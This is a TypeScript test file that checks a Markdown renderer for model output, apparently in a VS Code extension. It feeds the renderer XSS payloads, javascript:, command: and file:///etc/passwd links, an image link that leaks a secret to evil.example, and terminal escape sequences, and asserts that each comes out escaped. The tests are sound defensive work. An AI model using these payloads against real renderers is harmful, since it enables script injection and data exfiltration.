import assert from 'node:assert/strict';
import fc from 'fast-check';
import { BlockReader } from '../../../media/shared/markdown/blockReader.ts';
import { runs } from '../../support/property.ts';

describe('Markdown of a model', () => {
  const draw = (text: string) =>
    new BlockReader()
      .read(text, true)
      .map(({ html }) => html)
      .join('');

  // What each text must be drawn with, and what must not be in it.
  const hostile: readonly [text: string, has: RegExp, lacks: RegExp][] = [
    ['<script>alert(1)</script>', /&lt;script&gt;/, /<script/],
    ['<img src=x onerror=alert(1)>', /&lt;img/, /<img/],
    ['a <b onclick="x()">b</b>', /&lt;b onclick/, /<b/],
    ['![p](https://evil.example/?q=secret)', /!<a/, /<img|src=/],
    ['![p][1]\n\n[1]: https://evil.example/x.png', /<a/, /<img/],
    ['[go](javascript:alert(1))', /\[go\]\(javascript/, /<a/],
    ['[go](JaVaScRiPt:alert(1))', /\[go\]/, /<a/],
    ['[go](java&#115;cript:alert(1))', /\[go\]/, /<a/],
    ['[go](command:workbench.action.terminal.new)', /\[go\]\(command:/, /<a/],
    ['[go](vscode://file/etc/passwd)', /\[go\]/, /<a/],
    ['[go](file:///etc/passwd)', /\[go\]/, /<a/],
    ['[go](data:text/html,x)', /\[go\]/, /<a/],
    ['<https://good.example/a>', /data-href="https:\/\/good\.example\/a"/, / href=/],
    ['<javascript:alert(1)>', /&lt;javascript/, /<a/],
    ['[go](//evil.example)', /\[go\]/, /<a/],
    ['[go](https://user:word@evil.example)', /\[go\]/, /<a/],
    ['[go](https://ex.example/"onclick="x)', /data-href="https:\/\/ex\.example\/%22/, /"onclick/],
    ['[go](https://ex.example "a\\" onclick=x")', /data-href/, /" onclick/],
    ['https://good.example/x', /https:/, /<a/],
    ['```"><script>\nx\n```', /&quot;&gt;&lt;script&gt;/, /<script/],
    ['```js\n</code><script>x</script>\n```', /&lt;\/code&gt;/, /<script/],
    ['`</code><img>`', /&lt;\/code&gt;&lt;img&gt;/, /<img/],
    ['|a|b|\n|:-:|--:|\n|1|<i>|', /<th class="center">.*<td class="right">&lt;i&gt;/s, /style=|<i>/],
    ['# <svg onload=x>', /<h3 class="heading">&lt;svg/, /<svg/],
    ['\u202egnp.exe', /\[U\+202E\]gnp/, /\u202e/],
    ['\x1b[31mred\x1b[0m', /<p>red<\/p>/, /\x1b|\[31m/],
    ['\x1b]8;;https://x.example\x07link\x1b]8;;\x07', /<p>link<\/p>/, /x\.example/],
    ['a\u0000b\u0007', /a\u2400b\u2407/, /[\u0000\u0007]/],
    ['\ud800 alone', /\ufffd alone/, /\ud800/],
    ['a\u{e0041}\u{e0042}', /\[U\+E0041\]/, /\u{e0041}/u],
  ];
  for (const [text, has, lacks] of hostile) {
    it(`is harmless: ${JSON.stringify(text)}`, () => {
      assert.match(draw(text), has);
      assert.doesNotMatch(draw(text), lacks);
    });
  }

  it('keeps what joins letters and emoji', () => {
    const text = '👩\u200d💻 نامه\u200cای 🏴\u{e0067}\u{e0062}\u{e007f}';
    assert.equal(draw(text), `<p>${text}</p>\n`);
  });

  it('draws code with its language and a way to copy it', () => {
    assert.match(draw('```ts\na < b\n```'), /<span>ts<\/span>.*data-copy.*<code>a &lt; b\n<\/code>/);
  });

  it('is not slowed down by nesting and open brackets', () => {
    const texts = [
      '> '.repeat(5000),
      '- '.repeat(5000),
      '['.repeat(20_000),
      '*a_'.repeat(6000),
      '`'.repeat(20_000),
    ];
    const started = performance.now();
    for (const text of texts) draw(text);
    assert.ok(performance.now() - started < 10_000);
  });

  it('draws the same in the end however the text arrived, and keeps finished blocks', () => {
    const pieces = [
      ...['- a\n', '\n', '2. b\n', '2', '# T\n', '```js\n', '```\n', 'text ', '\n\n', '> q\n', '    code\n'],
      ...['|a|b|\n|-|-|\n', '|1|2|\n', '***\n', '---\n', '===\n', '**b** ', '\x1b[3', '1m', '\r', '\n', '😀'],
    ];
    const texts = fc.array(fc.constantFrom(...pieces), { maxLength: 25 });
    fc.assert(
      fc.property(texts, parts => {
        const reader = new BlockReader();
        let text = '';
        for (const part of parts) {
          text += part;
          reader.read(text, false);
        }
        const streamed = reader.read(`${text}\nend`, false);
        assert.deepEqual(streamed, new BlockReader().read(`${text}\nend`, true));
      }),
      runs(300),
    );
  });

  it('does not read finished blocks again', () => {
    const reader = new BlockReader();
    const before = reader.read('one\n\ntwo\n\nthree', false);
    const after = reader.read('one\n\ntwo\n\nthree and\n\nfour', false);
    assert.equal(after[0], before[0]);
    assert.equal(after.length, 4);
  });
});
